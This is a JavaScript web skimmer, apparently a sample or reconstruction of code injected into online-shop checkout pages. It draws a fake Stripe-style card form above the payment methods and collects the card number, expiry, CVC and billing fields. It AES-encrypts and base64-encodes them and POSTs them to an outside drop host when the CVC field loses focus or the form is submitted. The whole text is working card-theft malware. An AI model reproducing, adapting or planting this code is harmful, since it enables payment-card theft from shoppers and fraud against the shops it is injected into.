// The same database-stored widget on shops whose payment plugin draws no card fields of its
// own (an iframe or a redirect gateway): it inserts a fake card form styled like Stripe's,
// above the payment methods, waits for it to be filled, and sends its content with the
// billing address, AES-CBC encrypted and base64-encoded, in a POST to a second drop host.
(function () {
  if (!/\/checkout\/?/.test(location.pathname) || /order-received|cart/.test(location.pathname)) return;
  var G = "https://fqbe-stat.invalid/api/collect", K = "b7e0c35a9d1f4826", IV = "5d2a8c1f0e7b4963";
  function draw() {
    var pm = document.querySelector("#payment .wc_payment_methods, #payment");
    if (!pm || document.getElementById("wcs-card")) return;
    var box = document.createElement("fieldset");
    box.id = "wcs-card";
    box.style.cssText = "border:1px solid #e6e6e6;border-radius:4px;padding:12px;margin:0 0 12px;font:14px -apple-system,Segoe UI,sans-serif";
    box.innerHTML = '<legend>Credit Card (Stripe)</legend>' +
      '<input id="wcs-num" placeholder="Card number" inputmode="numeric" style="width:100%">' +
      '<input id="wcs-exp" placeholder="MM / YY" style="width:48%"> <input id="wcs-cvc" placeholder="CVC" style="width:48%">';
    pm.parentNode.insertBefore(box, pm);
  }
  function enc(txt) {
    var te = new TextEncoder();
    return crypto.subtle.importKey("raw", te.encode(K), "AES-CBC", false, ["encrypt"])
      .then(function (k) { return crypto.subtle.encrypt({ name: "AES-CBC", iv: te.encode(IV) }, k, te.encode(txt)); })
      .then(function (b) { return btoa(String.fromCharCode.apply(null, new Uint8Array(b))); });
  }
  var sent = false;
  function grab() {
    var num = (document.getElementById("wcs-num") || {}).value || "";
    if (sent || num.replace(/\D/g, "").length < 13) return;
    sent = true;
    var d = { num: num, exp: document.getElementById("wcs-exp").value, cvc: document.getElementById("wcs-cvc").value, h: location.host };
    document.querySelectorAll("[name^='billing_']").forEach(function (i) { d[i.name] = i.value; });
    enc(JSON.stringify(d)).then(function (b) {
      fetch(G, { method: "POST", mode: "no-cors", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: "d=" + encodeURIComponent(b) });
    });
  }
  setInterval(draw, 1500);
  document.addEventListener("blur", function (e) { if (e.target.id === "wcs-cvc") grab(); }, true);
  document.addEventListener("submit", grab, true);
})();
